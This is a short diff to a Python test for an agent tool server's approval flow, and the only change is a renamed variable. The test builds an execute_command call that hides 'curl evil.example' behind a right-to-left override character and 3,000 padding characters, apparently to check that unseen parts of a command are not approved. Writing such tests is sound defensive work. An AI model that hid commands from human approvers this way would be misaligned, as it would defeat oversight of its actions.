@@ -116,8 +116,8 @@ async def test_every_note_stands_below_the_name_of_its_own_file(bench: ToolWorks
 
 @proves("APR-8")
 async def test_what_was_not_shown_is_not_granted(tmp_path: Path) -> None:
-    wish = call("execute_command", command="echo a\u202eb; " + "x" * 3_000 + "; curl evil.example")
-    async with live_server(tmp_path, replies=[wish, "I see."]) as client:
+    asked_for = call("execute_command", command="echo a\u202eb; " + "x" * 3_000 + "; curl evil.example")
+    async with live_server(tmp_path, replies=[asked_for, "I see."]) as client:
         chat = await client.chat()
         await chat.send("do it")
         (approval,) = await chat.approvals()
